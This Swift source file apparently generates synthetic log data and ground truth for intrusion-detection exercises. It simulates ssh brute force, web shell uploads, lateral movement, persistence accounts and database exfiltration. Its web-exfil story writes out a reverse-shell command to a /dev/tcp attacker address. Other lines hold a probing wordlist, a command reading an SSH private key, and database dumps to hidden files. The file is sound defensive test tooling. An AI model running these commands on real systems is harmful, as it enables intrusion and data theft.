/// One login the ground truth names: a hop of the attacker, or a benign look-alike.
struct FleetHop: Sendable {
    var from: String
    var to: String
    var time: Micros
    var account: String
    var auth: FleetAuth
    /// How the hop logged in: `ssh`, or `winrm`/`rdp` to a Windows server.
    var method = "ssh"
}

/// The attacker's client on a web server (web shell stories): requests from one address and user agent, each from
/// the next client port (1 to 3 above the last, back to 32768 near the top), as a scripted client opens connections.
struct AttackerBrowser {
    let web: Int
    let client: IPv4
    let userAgent: String
    var clientPort: Int

    /// The attacker's first visit to a web story's server at `t`: a browser on a fresh client port (Firefox on
    /// Linux), the timeline's first line, and `GET /`.
    static func arrive(
        web: Int, from client: IPv4, at t: Micros, fleet: Fleet, facts: inout FleetFacts, e: inout FleetEmitter,
        r: inout ScenarioRandom
    ) -> AttackerBrowser {
        var browser = AttackerBrowser(
            web: web, client: client, userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            clientPort: FleetStory.port(&r))
        facts.timeline.append((t, "First request from \(client) to \(fleet.hosts[web].name)"))
        browser.get("/", 200, 18_204, at: t, e: &e, r: &r)
        return browser
    }

    mutating func get(
        _ uri: String, _ status: Int, _ bytes: Int, method: String = "GET", at t: Micros, e: inout FleetEmitter,
        r: inout ScenarioRandom
    ) {
        clientPort = clientPort >= 60_990 ? 32_768 : clientPort + r.int(1...3)
        e.request(
            web: web, t, client: client, clientPort: clientPort, method: method, uri: uri, status: status,
            bytes: bytes, userAgent: userAgent, flags: FleetStory.a, random: &r)
    }
}

/// What a fleet story did, for the ground truth and for the background (which must know when hosts fell, to
/// list the benign logins that touch them afterwards).
struct FleetFacts {
    var entryHost = ""
    var entrySource = IPv4(0, 0, 0, 0)
    var entryTime: Micros = 0
    var entryAccount = ""
    var entryMethod = ""
    var hops: [FleetHop] = []
    /// Host index → time of its compromise (the attacker's first successful access to it).
    var compromisedAt: [Int: Micros] = [:]
    var accounts: [String] = []
    var attackerAddresses: [IPv4] = []
    var exfil: (from: String, to: IPv4, port: Int, start: Micros, end: Micros, bytes: Int)?
    var persistence: [(host: String, account: String, group: String, time: Micros)] = []
    var timeline: [(Micros, String)] = []
    /// A real person whose password the attacker used: the person does not log in after this time.
    var absentUser: (name: String, from: Micros)?
    /// An account nobody but the attacker uses.
    var reservedAccounts: Set<String> = []

    var compromisedHostsInOrder: [Int] { compromisedAt.sorted { $0.value < $1.value }.map(\.key) }
}

/// The fleet stories, each planned from its own random stream (`ScenarioRandom(seed, 0x57, story)`), so
/// that the background's volume never moves an attacker's event.
enum FleetStory {
    static let a = FleetEmitter.attacker
    static let persistNames = ["sysadm", "svc-backup", "maint", "ops-sync", "syslogd", "updater"]

    static func emit(
        _ kind: FleetStoryKind, seed: UInt64, fleet: Fleet, windowStart: Micros, days: Int,
        emitter e: inout FleetEmitter
    ) -> FleetFacts {
        var r = ScenarioRandom(seed, 0x57, UInt64(FleetStoryKind.allCases.firstIndex(of: kind) ?? 0))
        let day = max(0, days - 2)
        let dayStart = windowStart + Micros(day) * microsPerDay
        var a1 = InternetAddress.random(&r)
        var a2 = InternetAddress.random(&r)
        while a2 == a1 { a2 = InternetAddress.random(&r) }
        if a1.subnet24 == a2.subnet24 { a1 = IPv4(value: a1.value ^ 0x0100_0000) }
        switch kind {
        case .sshJump: return sshJump(r: &r, fleet: fleet, dayStart: dayStart, a1: a1, a2: a2, e: &e)
        case .webExfil: return webExfil(r: &r, fleet: fleet, dayStart: dayStart, a1: a1, a2: a2, e: &e)
        case .stolenCredential:
            return stolenCredential(r: &r, fleet: fleet, dayStart: dayStart, a1: a1, a2: a2, e: &e)
        case .webToWindows: return webToWindows(r: &r, fleet: fleet, dayStart: dayStart, a1: a1, a2: a2, e: &e)
        }
    }

    static func seconds(_ r: inout ScenarioRandom, _ range: ClosedRange<Int>) -> Micros {
        Micros(r.int(range)) * microsPerSecond
    }

    static func port(_ r: inout ScenarioRandom) -> Int { r.int(32_768...60_999) }

    /// Records a hop and emits its login.
    static func hop(
        from: Int, to: Int, account: String, auth: FleetAuth, at time: Micros, until end: Micros, fleet: Fleet,
        facts: inout FleetFacts, e: inout FleetEmitter, r: inout ScenarioRandom
    ) {
        e.sshLogin(
            host: to, user: account, from: fleet.hosts[from].address, port: port(&r), auth: auth, at: time, until: end,
            flags: a, random: &r)
        facts.hops.append(
            FleetHop(from: fleet.hosts[from].name, to: fleet.hosts[to].name, time: time, account: account, auth: auth))
        if facts.compromisedAt[to] == nil { facts.compromisedAt[to] = time }
        facts.timeline.append(
            (
                time,
                "Lateral movement: ssh \(fleet.hosts[from].name) → \(fleet.hosts[to].name) as \(account) (\(auth.methodName))"
            ))
    }

    static func exfiltrate(
        from host: Int, to address: IPv4, port: Int, at start: Micros, seconds duration: Micros, fleet: Fleet,
        facts: inout FleetFacts, e: inout FleetEmitter, r: inout ScenarioRandom
    ) -> Micros {
        let bytes = r.int(180_000_000...1_600_000_000)
        let length = duration + Micros(r.int(0...999_999))
        e.conn(
            start, from: fleet.hosts[host].address, FleetStory.port(&r), to: address, port,
            service: port == 22 ? "ssh" : "ssl",
            duration: length, bytesOut: bytes, bytesIn: bytes / 90, flags: a, random: &r)
        facts.exfil = (fleet.hosts[host].name, address, port, start, start + length, bytes)
        facts.timeline.append((start, "Exfiltration: \(fleet.hosts[host].name) → \(address):\(port), \(bytes) bytes"))
        return start + length
    }

    // MARK: ssh-jump

    static func sshJump(
        r: inout ScenarioRandom, fleet: Fleet, dayStart: Micros, a1: IPv4, a2: IPv4, e: inout FleetEmitter
    ) -> FleetFacts {
        var facts = FleetFacts()
        let jump = fleet.jump
        let weak = fleet.weakAccount
        let persist = r.pick(persistNames)
        let app = r.pick(fleet.apps)
        let db = r.pick(fleet.dbs)
        let web: Int? = r.chance(0.5) ? r.pick(fleet.webs) : nil
        let exfil = r.chance(0.5)
        facts.reservedAccounts = [weak, persist]

        // Guessing: one connection per attempt or two, common names and, more and more, the weak account.
        let names = ["root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "ftpuser"]
        let attempts = r.int(40...220)
        var t = (dayStart + seconds(&r, (9 * 3_600)...(14 * 3_600))).snappedMidSecond(&r)
        for i in 0..<attempts {
            let user = i >= attempts - 3 || r.chance(0.15) ? weak : r.pick(names)
            let valid = user == weak || user == "root"
            t = e.sshGuess(
                host: jump, user: user, validUser: valid, from: a1, port: port(&r), at: t, tries: r.int(1...2),
                flags: a, random: &r)
            t += Micros(r.int(300_000...9_000_000))
        }
        facts.timeline.append((t, "Brute force from \(a1) against \(fleet.hosts[jump].name): \(attempts) connections"))

        // Times of the chain, planned before any line is written (a login's lines include its logout).
        let accepted = (t + seconds(&r, 5...40)).snappedMidSecond(&r)
        let sudoAt = accepted + seconds(&r, 40...200)
        let persistAt = sudoAt + seconds(&r, 60...300)
        let hop1 = (persistAt + seconds(&r, 300...1_200)).snappedMidSecond(&r)
        let hopWeb = (hop1 + seconds(&r, 60...300)).snappedMidSecond(&r)
        let hop2 = (hop1 + seconds(&r, 400...1_500)).snappedMidSecond(&r)
        var dbDone = hop2 + seconds(&r, 300...1_500)
        if exfil {
            dbDone =
                exfiltrate(
                    from: db, to: a2, port: 443, at: hop2 + seconds(&r, 120...600), seconds: seconds(&r, 300...1_500),
                    fleet: fleet, facts: &facts, e: &e, r: &r) + seconds(&r, 20...200)
        }
        let dbEnd = dbDone.snappedMidSecond(&r)
        let appEnd = (dbEnd + seconds(&r, 10...120)).snappedMidSecond(&r)
        let webEnd = (hopWeb + seconds(&r, 100...600)).snappedMidSecond(&r)
        let jumpEnd = (max(appEnd, webEnd) + seconds(&r, 10...200)).snappedMidSecond(&r)

        let entryPort = port(&r)
        e.sshLogin(
            host: jump, user: weak, from: a1, port: entryPort, auth: .password, at: accepted, until: jumpEnd, flags: a,
            random: &r)
        facts.entryHost = fleet.hosts[jump].name
        facts.entrySource = a1
        facts.entryTime = accepted
        facts.entryAccount = weak
        facts.entryMethod = "ssh password after guessing"
        facts.compromisedAt[jump] = accepted
        facts.timeline.append((accepted, "Initial access: \(weak) logs in to \(fleet.hosts[jump].name) from \(a1)"))
        let tty = r.int(1...9)
        e.sudo(
            host: jump, sudoAt, user: weak, tty: tty, pwd: "/home/" + weak, command: "/bin/bash",
            duration: jumpEnd - sudoAt - seconds(&r, 2...8), flags: a, random: &r)
        facts.timeline.append((sudoAt, "Privilege escalation on \(fleet.hosts[jump].name): sudo /bin/bash as \(weak)"))
        let persistUID = 1_100 + r.int(0...80)
        e.useradd(host: jump, persistAt, account: persist, uid: persistUID, flags: a)
        e.usermodAddGroup(host: jump, persistAt + seconds(&r, 5...30), account: persist, group: "sudo", flags: a)
        facts.persistence.append((fleet.hosts[jump].name, persist, "sudo", persistAt))
        facts.timeline.append((persistAt, "Persistence: account \(persist) created on bastion, added to sudo"))

        hop(
            from: jump, to: app, account: weak, auth: .password, at: hop1, until: appEnd, fleet: fleet, facts: &facts,
            e: &e, r: &r)
        e.sudo(
            host: app, hop1 + seconds(&r, 30...120), user: weak, tty: r.int(0...5), pwd: "/home/" + weak,
            command: "/usr/bin/cat /home/deploy/.ssh/id_ed25519", duration: 40_000, flags: a, random: &r)
        if let web {
            hop(
                from: jump, to: web, account: weak, auth: .password, at: hopWeb, until: webEnd, fleet: fleet,
                facts: &facts, e: &e, r: &r)
        }
        hop(
            from: app, to: db, account: "deploy", auth: .key(owner: "deploy"), at: hop2, until: dbEnd, fleet: fleet,
            facts: &facts, e: &e, r: &r)
        facts.accounts = [weak, "deploy", persist]
        facts.attackerAddresses = exfil ? [a1, a2] : [a1]
        facts.timeline.append((jumpEnd, "The attacker logs out of \(fleet.hosts[jump].name)"))
        facts.hops.sort { $0.time < $1.time }
        return facts
    }

    // MARK: web-exfil

    /// The way in of both web stories: the site's upload form fetched and a web shell POSTed to it by the
    /// attacker's browser (its client is the entry source), and the facts of that entry. `t` ends at the upload.
    static func uploadWebShell(
        at t: inout Micros, web: Int, browser: inout AttackerBrowser, fleet: Fleet, facts: inout FleetFacts,
        e: inout FleetEmitter, r: inout ScenarioRandom
    ) {
        browser.get("/admin/upload.php", 200, 3_112, method: "GET", at: t, e: &e, r: &r)
        t += seconds(&r, 20...90)
        browser.get("/admin/upload.php", 200, 87, method: "POST", at: t, e: &e, r: &r)
        facts.compromisedAt[web] = t
        facts.entryHost = fleet.hosts[web].name
        facts.entrySource = browser.client
        facts.entryTime = t
        facts.entryAccount = "www-data"
        facts.entryMethod = "web shell upload (POST /admin/upload.php)"
        facts.timeline.append((t, "Initial access: web shell uploaded to \(fleet.hosts[web].name)"))
    }

    /// The web server's reverse shell to the attacker on port 443, open from `start` until a little after `end`.
    static func reverseShell(
        web: Int, to attacker: IPv4, at start: Micros, until end: Micros, fleet: Fleet, facts: inout FleetFacts,
        e: inout FleetEmitter, r: inout ScenarioRandom
    ) {
        e.conn(
            start, from: fleet.hosts[web].address, port(&r), to: attacker, 443,
            duration: end - start + seconds(&r, 5...60), bytesOut: r.int(80_000...400_000),
            bytesIn: r.int(8_000...40_000), flags: a, random: &r)
        facts.timeline.append((start, "Reverse shell: \(fleet.hosts[web].name) → \(attacker):443"))
    }

    static func webExfil(
        r: inout ScenarioRandom, fleet: Fleet, dayStart: Micros, a1: IPv4, a2: IPv4, e: inout FleetEmitter
    ) -> FleetFacts {
        var facts = FleetFacts()
        let web = r.pick(fleet.webs)
        let app = r.pick(fleet.apps)
        let db = r.pick(fleet.dbs)
        var t = (dayStart + seconds(&r, (10 * 3_600)...(16 * 3_600))).snappedMidSecond(&r)
        var browser = AttackerBrowser.arrive(web: web, from: a1, at: t, fleet: fleet, facts: &facts, e: &e, r: &r)
        func get(
            _ uri: String, _ status: Int, _ bytes: Int, method: String = "GET", e: inout FleetEmitter,
            r: inout ScenarioRandom
        ) { browser.get(uri, status, bytes, method: method, at: t, e: &e, r: &r) }
        t += Micros(r.int(600_000...2_000_000))
        get("/robots.txt", 200, 68, e: &e, r: &r)
        let words = [
            "admin", "backup", "config", "uploads", "api", "old", "test", "dev", "images", "includes", "login", "panel",
            "private", "tmp", "vendor", "wp-admin", "phpmyadmin", ".git/HEAD", ".env", "server-status", "install",
            "db", "sql", "files", "data", "static", "assets", "cgi-bin", "admin.php", "shell", "console",
        ]
        for _ in 0..<r.int(30...90) {
            t += Micros(r.int(150_000...1_500_000))
            let w = r.pick(words)
            let found = w == "admin" || w == "uploads" || w == "static"
            get("/" + w + (found ? "/" : ""), found ? 403 : 404, found ? 153 : 162, e: &e, r: &r)
        }
        t = (t + seconds(&r, 120...600)).snappedMidSecond(&r)
        uploadWebShell(at: &t, web: web, browser: &browser, fleet: fleet, facts: &facts, e: &e, r: &r)
        let shell =
            "/uploads/" + r.pick(["thumb", "img", "cache", "logo"]) + "_" + String(r.int(4_096...65_535), radix: 16)
            + ".php"
        let commands = [
            "id", "uname+-a", "cat+../config/database.php", "ls+-la+/home", "cat+/etc/hosts",
            "bash+-c+%27bash+-i+%3E%26+/dev/tcp/" + a1.description + "/443+0%3E%261%27",
        ]
        for c in commands {
            t += seconds(&r, 5...40)
            get(shell + "?c=" + c, 200, r.int(20...3_000), e: &e, r: &r)
        }
        facts.timeline.append((t, "The web shell answers commands; database.php holds shopapp's password"))
        let reverseStart = t + Micros(r.int(100_000...600_000))
        let hop1 = (reverseStart + seconds(&r, 60...400)).snappedMidSecond(&r)
        let hop2 = (hop1 + seconds(&r, 200...900)).snappedMidSecond(&r)
        let sudoAt = hop2 + seconds(&r, 30...120)
        let exfilEnd = exfiltrate(
            from: db, to: a2, port: 443, at: sudoAt + seconds(&r, 90...400), seconds: seconds(&r, 400...1_800),
            fleet: fleet, facts: &facts, e: &e, r: &r)
        let dbEnd = (exfilEnd + seconds(&r, 30...200)).snappedMidSecond(&r)
        let appEnd = (dbEnd + seconds(&r, 10...100)).snappedMidSecond(&r)
        reverseShell(web: web, to: a1, at: reverseStart, until: appEnd, fleet: fleet, facts: &facts, e: &e, r: &r)
        hop(
            from: web, to: app, account: "shopapp", auth: .password, at: hop1, until: appEnd, fleet: fleet,
            facts: &facts, e: &e, r: &r)
        hop(
            from: app, to: db, account: "dbsync", auth: .key(owner: "dbsync"), at: hop2, until: dbEnd, fleet: fleet,
            facts: &facts, e: &e, r: &r)
        e.sudo(
            host: db, sudoAt, user: "dbsync", tty: r.int(0...4), pwd: "/home/dbsync",
            command: "/usr/bin/mysqldump --all-databases --result-file=/var/tmp/.cache.sql",
            duration: seconds(&r, 40...80), flags: a, random: &r)
        t = (appEnd + seconds(&r, 60...400)).snappedMidSecond(&r)
        get(shell + "?c=rm+-f+" + String(shell.split(separator: "/").last ?? ""), 200, 0, e: &e, r: &r)
        facts.timeline.append((t, "Last web shell command (removes the shell)"))
        facts.accounts = ["shopapp", "dbsync"]
        facts.attackerAddresses = [a1, a2]
        facts.reservedAccounts = ["shopapp"]
        return facts
    }

    // MARK: stolen-cred

    static func stolenCredential(
        r: inout ScenarioRandom, fleet: Fleet, dayStart: Micros, a1: IPv4, a2: IPv4, e: inout FleetEmitter
    ) -> FleetFacts {
        var facts = FleetFacts()
        let jump = fleet.jump
        let admins = fleet.users.filter(\.isAdmin)
        let victim = r.pick(admins)
        let freshApps = fleet.apps.filter { !victim.usualTargets.contains($0) }
        let app = r.pick(freshApps.isEmpty ? fleet.apps : freshApps)
        let freshDBs = fleet.dbs.filter { !victim.usualTargets.contains($0) }
        let db = r.pick(freshDBs.isEmpty ? fleet.dbs : freshDBs)
        let persist = r.pick(persistNames)
        facts.reservedAccounts = [persist]

        let accepted = (dayStart + seconds(&r, (1 * 3_600)...(3 * 3_600 + 1_800))).snappedMidSecond(&r)
        let look = accepted + seconds(&r, 60...300)
        let hop1 = (look + seconds(&r, 300...1_200)).snappedMidSecond(&r)
        let rootAt = hop1 + seconds(&r, 30...200)
        let persistAt = rootAt + seconds(&r, 60...400)
        let hop2 = (persistAt + seconds(&r, 400...1_500)).snappedMidSecond(&r)
        let tarAt = hop2 + seconds(&r, 30...150)
        let exfilEnd = exfiltrate(
            from: db, to: a2, port: 22, at: tarAt + seconds(&r, 120...600), seconds: seconds(&r, 600...2_400),
            fleet: fleet, facts: &facts, e: &e, r: &r)
        let dbEnd = (exfilEnd + seconds(&r, 20...200)).snappedMidSecond(&r)
        let appEnd = (dbEnd + seconds(&r, 10...100)).snappedMidSecond(&r)
        let jumpEnd = (appEnd + seconds(&r, 10...200)).snappedMidSecond(&r)

        e.sshLogin(
            host: jump, user: victim.name, from: a1, port: port(&r), auth: .password, at: accepted, until: jumpEnd,
            flags: a, random: &r)
        facts.entryHost = fleet.hosts[jump].name
        facts.entrySource = a1
        facts.entryTime = accepted
        facts.entryAccount = victim.name
        facts.entryMethod = "ssh password (valid, no failed attempt)"
        facts.compromisedAt[jump] = accepted
        facts.absentUser = (victim.name, accepted)
        facts.timeline.append(
            (accepted, "Initial access: \(victim.name)'s password used from \(a1) on \(fleet.hosts[jump].name)"))
        e.sudo(
            host: jump, look, user: victim.name, tty: r.int(0...6), pwd: "/home/" + victim.name,
            command: "/usr/bin/ls -la /root/.ssh", duration: 30_000, flags: a, random: &r)
        hop(
            from: jump, to: app, account: victim.name, auth: .key(owner: victim.name), at: hop1, until: appEnd,
            fleet: fleet, facts: &facts, e: &e, r: &r)
        let tty = r.int(0...6)
        e.sudo(
            host: app, rootAt, user: victim.name, tty: tty, pwd: "/home/" + victim.name, command: "/bin/bash",
            duration: appEnd - rootAt - seconds(&r, 2...8), flags: a, random: &r)
        let persistUID = 1_100 + r.int(0...80)
        e.useradd(host: app, persistAt, account: persist, uid: persistUID, flags: a)
        e.usermodAddGroup(host: app, persistAt + seconds(&r, 5...30), account: persist, group: "sudo", flags: a)
        facts.persistence.append((fleet.hosts[app].name, persist, "sudo", persistAt))
        facts.timeline.append((persistAt, "Persistence: account \(persist) created on \(fleet.hosts[app].name)"))
        hop(
            from: app, to: db, account: victim.name, auth: .password, at: hop2, until: dbEnd, fleet: fleet,
            facts: &facts, e: &e, r: &r)
        e.sudo(
            host: db, tarAt, user: victim.name, tty: r.int(0...6), pwd: "/home/" + victim.name,
            command: "/usr/bin/tar czf /var/tmp/.m.tgz /var/lib/mysql", duration: seconds(&r, 60...240), flags: a,
            random: &r)
        facts.accounts = [victim.name, persist]
        facts.attackerAddresses = [a1, a2]
        facts.timeline.append((jumpEnd, "The attacker logs out of \(fleet.hosts[jump].name)"))
        return facts
    }
}
